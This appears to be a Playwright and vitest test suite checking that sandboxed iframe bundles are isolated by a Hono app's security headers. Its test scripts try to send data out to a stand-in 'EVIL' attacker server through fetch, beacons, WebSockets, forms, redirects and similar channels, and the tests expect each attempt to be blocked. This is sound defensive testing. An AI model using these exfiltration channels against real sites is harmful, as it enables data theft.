import { Hono } from "hono";
import type { Browser, BrowserContext, Page } from "playwright";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";

import type { AppEnv } from "./app-env.ts";
import { bundleResponse } from "./bundle.ts";
import { securityHeaders } from "./headers.ts";
import { launchBrowser } from "./test-browser.ts";
import { serveApp, type TestServer } from "./test-server.ts";

let browser: Browser;
let context: BrowserContext;
let served: TestServer;
let attacker: TestServer;
let bundle = "";
/** What reached the attacker, or our own server beside the page and the frame. */
let leaks: string[] = [];

beforeAll(async () => {
  const app = new Hono<AppEnv>();
  app.use(securityHeaders());
  app.get("/", (c) => {
    c.header("Set-Cookie", "secret=1; Path=/");
    return c.html(`<title>Page</title>
      <script nonce="${c.get("nonce")}">
        window.heard = [];
        window.violations = [];
        document.addEventListener("securitypolicyviolation", (event) => {
          window.violations.push(event.effectiveDirective);
        });
        addEventListener("message", ({ data, origin }) => window.heard.push({ data, origin }));
      </script>
      <iframe src="/bundle/1" title="Bundle"></iframe>`);
  });
  app.get("/favicon.ico", (c) => c.body(null, 204));
  app.get("/bundle/1", () => bundleResponse(bundle));
  app.all("*", (c) => {
    leaks.push(c.req.path);
    return c.text("leak");
  });
  served = await serveApp(app);
  const evil = new Hono<AppEnv>();
  evil.all("*", (c) => {
    leaks.push(c.req.url);
    return c.html("<title>Evil</title>");
  });
  attacker = await serveApp(evil);
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser.close();
  await served.close();
  await attacker.close();
});
beforeEach(async () => {
  leaks = [];
  context = await browser.newContext();
});
afterEach(() => context.close());

/** Runs code in a bundle's frame until it posts "done", and gives what the page heard. */
async function heard(
  script: string,
): Promise<{ page: Page; heard: { data: unknown; origin: string }[] }> {
  bundle = `<p>Bundle</p><script>
    const tell = (data) => parent.postMessage(data, "*");
    const attempt = async (name, run) => {
      try { tell([name, String(await run())]); } catch (error) { tell([name, error.name]); }
    };
    (async () => { ${script.replaceAll("EVIL", attacker.origin)}; tell("done"); })();
  </script>`;
  const page = await context.newPage();
  // A frame that is busy for ever never finishes loading, and its page with it.
  await page.goto(served.origin, { waitUntil: "commit" });
  await page.waitForFunction(() =>
    (Reflect.get(window, "heard") as { data: unknown }[]).some(({ data }) => data === "done"),
  );
  const messages = await page.evaluate(
    () => Reflect.get(window, "heard") as { data: unknown; origin: string }[],
  );
  return { page, heard: messages };
}

test("A bundle's own code runs, in an origin of its own", async () => {
  const { heard: messages } = await heard(`tell(self.origin)`);

  expect(messages).toEqual([
    { data: "null", origin: "null" },
    { data: "done", origin: "null" },
  ]);
});

test("A bundle reaches no cookie, storage or page around it", async () => {
  const { heard: messages } = await heard(`
    await attempt("cookie", () => document.cookie);
    await attempt("local", () => localStorage.length);
    await attempt("session", () => sessionStorage.length);
    await attempt("database", () => indexedDB.open("x"));
    await attempt("parent", () => parent.document.title);
    await attempt("top", () => { top.location = "EVIL/top"; return "left"; });
    await attempt("popup", () => open("EVIL/popup"));
  `);

  expect(messages.map(({ data }) => data).slice(0, -1)).toEqual([
    ["cookie", "SecurityError"],
    ["local", "SecurityError"],
    ["session", "SecurityError"],
    ["database", "SecurityError"],
    ["parent", "SecurityError"],
    ["top", "SecurityError"],
    ["popup", "null"],
  ]);
  expect(leaks).toEqual([]);
});

test("A bundle loads and sends nothing", async () => {
  const { heard: messages } = await heard(`
    await attempt("fetch", () => fetch("EVIL/fetch"));
    await attempt("own", () => fetch("/own", { method: "POST", mode: "no-cors" }));
    await attempt("beacon", () => { navigator.sendBeacon("EVIL/beacon", "x"); return "sent"; });
    await attempt("socket", () => new Promise((resolve) => {
      const socket = new WebSocket("EVIL/socket".replace("http", "ws"));
      socket.onerror = () => resolve("blocked");
    }));
    await attempt("image", () => new Promise((resolve) => {
      const image = new Image();
      image.onerror = () => resolve("blocked");
      image.onload = () => resolve("loaded");
      image.src = "EVIL/image";
    }));
    await attempt("script", () => new Promise((resolve) => {
      const script = document.createElement("script");
      script.onerror = () => resolve("blocked");
      script.src = "EVIL/script";
      document.body.append(script);
    }));
    await attempt("style", () => new Promise((resolve) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.onerror = () => resolve("blocked");
      link.href = "EVIL/style";
      document.head.append(link);
    }));
    await attempt("form", () => {
      const form = document.createElement("form");
      form.method = "post";
      form.action = "EVIL/form";
      document.body.append(form);
      form.submit();
      return "tried";
    });
    await attempt("frame", () => {
      const frame = document.createElement("iframe");
      frame.src = "EVIL/frame";
      document.body.append(frame);
      return "tried";
    });
    await attempt("worker", () => new Worker("EVIL/worker"));
  `);

  expect(messages.map(({ data }) => data)).toContainEqual(["fetch", "TypeError"]);
  expect(messages.map(({ data }) => data)).toContainEqual(["own", "TypeError"]);
  for (const kind of ["socket", "image", "script", "style"]) {
    expect(messages.map(({ data }) => data)).toContainEqual([kind, "blocked"]);
  }
  expect(leaks).toEqual([]);
});

test.each([
  ["its location", `location.href = "EVIL/location"`],
  [
    "a refresh",
    `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=EVIL/refresh">'`,
  ],
  [
    "a link",
    `document.body.innerHTML = '<a href="EVIL/link">x</a>'; document.querySelector("a").click()`,
  ],
  ["our own pages", `location.href = "/other"`],
])("A bundle's frame cannot go elsewhere by %s", async (_how, script) => {
  const { page } = await heard(script);

  await page.waitForFunction(() => Reflect.get(window, "violations")[0] === "frame-src");
  expect(leaks).toEqual([]);
});

test("An endless loop in a bundle does not hang the page", async () => {
  const { page } = await heard(`setTimeout(() => { for (;;) {} }, 0)`);

  expect(await page.evaluate(() => document.title)).toBe("Page");
});

test("A bundle opened by itself has no origin either", async () => {
  bundle = `<title>x</title><script>document.title = self.origin</script>`;
  const page = await context.newPage();

  await page.goto(`${served.origin}/bundle/1`);

  expect(await page.title()).toBe("null");
});

test("Another site cannot frame a bundle", async () => {
  bundle = "<p>Bundle</p>";
  const page = await context.newPage();
  await page.goto(attacker.origin);

  await page.evaluate(async (src) => {
    const frame = document.createElement("iframe");
    frame.src = src;
    document.body.append(frame);
    await new Promise((resolve) => frame.addEventListener("load", resolve));
  }, `${served.origin}/bundle/1`);

  expect(page.frames()[1]?.url()).toBe("chrome-error://chromewebdata/");
});
